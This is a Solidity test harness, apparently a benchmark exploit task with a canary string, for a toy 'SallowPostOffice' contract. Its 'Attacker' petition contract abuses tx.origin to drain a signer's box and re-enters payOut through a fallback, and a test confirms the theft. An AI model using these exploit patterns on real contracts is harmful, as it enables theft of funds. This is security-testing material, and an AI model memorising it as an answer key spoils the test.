// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.5.17;

import "./SallowPostOffice.sol";

// assay-canary-00cebc39-59e5-4670-bb12-86a03a264626

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender, address origin) external;
}

/// A petition that box holders sign. It has a box too, and tries the others' meanwhile.
contract Attacker {
    SallowPostOffice internal office;
    bool internal again;
    mapping(address => uint256) public signedAt;

    constructor(SallowPostOffice office_) public {
        office = office_;
    }

    function() external payable {
        if (!again) return;
        again = false;
        _try(abi.encodeWithSelector(office.payOut.selector, msg.value));
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(office).call(data);
    }

    function prepare() external {
        office.rent.value(0.05 ether)();
    }

    function sign() external {
        signedAt[tx.origin] = now;
        (uint256 theirs, , , ) = office.boxes(tx.origin);
        uint256 free = office.hand(tx.origin, 0);
        uint256 most = office.hand(tx.origin, theirs);
        uint256 own = office.hand(address(this), 0.001 ether);

        _try(abi.encodeWithSelector(office.setClerk.selector, address(this), uint256(-1)));
        _try(abi.encodeWithSelector(office.collect.selector, free));
        _try(abi.encodeWithSelector(office.collect.selector, most));
        _try(abi.encodeWithSelector(office.collect.selector, own));
        _try(abi.encodeWithSelector(office.giveBack.selector, most));
        _try(abi.encodeWithSelector(office.chooseNumber.selector, 7));
        _try(abi.encodeWithSelector(office.takeTakings.selector));
        _try(abi.encodeWithSelector(office.payOut.selector, theirs + 1 ether));
        (uint256 mine, , , ) = office.boxes(address(this));
        again = true;
        _try(abi.encodeWithSelector(office.payOut.selector, mine));
    }
}

contract Proof {
    Vm internal constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    address internal constant LOTTE = address(0x1077E);
    address internal constant CLERK = address(0xC1E2C);
    SallowPostOffice internal office;
    Attacker internal petition;
    address internal gero; // signs his transactions himself

    function() external payable {}

    function setUp() public {
        vm.warp(1700000000);
        gero = tx.origin;
        office = new SallowPostOffice();
        petition = new Attacker(office);
        vm.deal(address(petition), 0.05 ether);
        petition.prepare();
        vm.deal(gero, 8.02 ether);
        vm.deal(LOTTE, 3.02 ether);
        vm.prank(gero);
        office.rent.value(8.02 ether)();
        vm.prank(LOTTE);
        office.rent.value(3.02 ether)();
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(office).call(data);
    }

    function _postage(address who) private view returns (uint256 postage) {
        (postage, , , ) = office.boxes(who);
    }

    function test_Regular() public {
        vm.prank(gero);
        office.chooseNumber(12);
        require(office.holderOf(12) == gero, "number");
        vm.prank(gero);
        office.frank(LOTTE, "dear Lotte");
        require(_postage(gero) == 7.999 ether, "franked");
        vm.prank(gero);
        uint256 parcel = office.hand(LOTTE, 0.5 ether);
        vm.prank(CLERK);
        require(!_try(abi.encodeWithSelector(office.collect.selector, parcel)), "no limit");
        vm.prank(LOTTE);
        office.setClerk(CLERK, 0.6 ether);
        vm.prank(CLERK);
        office.collect(parcel);
        require(_postage(LOTTE) == 2.5 ether && _postage(gero) == 8.498 ether, "paid on delivery");
        require(office.clerkLimit(LOTTE, CLERK) == 0.1 ether, "less the charge");

        vm.prank(LOTTE);
        parcel = office.hand(gero, 0.2 ether);
        require(!_try(abi.encodeWithSelector(office.giveBack.selector, parcel)), "too early");
        vm.warp(now + 30 days);
        office.giveBack(parcel);
        (address from, , , ) = office.parcelAt(parcel);
        require(from == address(0), "returned");
        vm.prank(LOTTE);
        parcel = office.hand(gero, 0.2 ether);
        vm.prank(gero);
        office.collect(parcel);

        vm.deal(LOTTE, 1 ether);
        vm.prank(LOTTE);
        office.topUp.value(1 ether)(gero);
        vm.prank(gero);
        office.payOut(9.298 ether);
        require(gero.balance == 9.298 ether && _postage(gero) == 0, "paid out");
        uint256 before = address(this).balance;
        office.takeTakings();
        require(address(this).balance - before == 0.064 ether, "rents and stamps");
        require(address(office).balance == _postage(LOTTE) + _postage(address(petition)), "books");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Nothing is done with a box that nobody pays for.
    function test_RefusesWithoutABox() public {
        address none = address(0xBEE);
        vm.deal(none, 1 ether);
        refuses(none, "rent");
        office.rent.value(0.01 ether)();
        vm.prank(none, none);
        vm.expectRevert("no box");
        office.chooseNumber(5);
        refuses(none, "no box");
        office.topUp.value(1)(none);
        refuses(none, "no box");
        office.setClerk(CLERK, 1);
        refuses(none, "no box");
        office.frank(LOTTE, "");
        refuses(none, "no box");
        office.hand(LOTTE, 0);
        refuses(LOTTE, "no box");
        office.frank(none, "");
        refuses(LOTTE, "no box");
        office.hand(none, 0);
        refuses(LOTTE, "postmaster");
        office.takeTakings();
    }

    /// A number is free, and is chosen by a person.
    function test_RefusesNumbers() public {
        refuses(LOTTE, "persons only");
        office.chooseNumber(5);
        vm.prank(gero);
        office.chooseNumber(5);
        vm.prank(gero, gero);
        vm.expectRevert("number");
        office.chooseNumber(0);
        vm.prank(LOTTE, LOTTE);
        vm.expectRevert("number");
        office.chooseNumber(5);
    }

    /// Parcels that are gone, are free of charge, or cannot be paid out.
    function test_RefusesParcels() public {
        vm.prank(gero);
        uint256 parcel = office.hand(LOTTE, 0);
        refuses(CLERK, "not the addressee");
        office.collect(parcel);
        vm.prank(LOTTE, LOTTE);
        office.collect(parcel);
        vm.prank(address(0), address(0));
        vm.expectRevert("gone");
        office.collect(parcel);
        vm.expectRevert("in the window");
        office.giveBack(parcel);
        vm.deal(address(office), 0);
        refuses(LOTTE, "refused");
        office.payOut(1 ether);
    }

    // gero, who starts this transaction, signs the petition.
    function exploit() public {
        petition.sign();
    }

    function test_Exploit() public {
        uint256 before = address(petition).balance;
        exploit();
        require(address(petition).balance - before >= 5 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(office);
    }

    function attacker() public view returns (address) {
        return address(petition);
    }
}
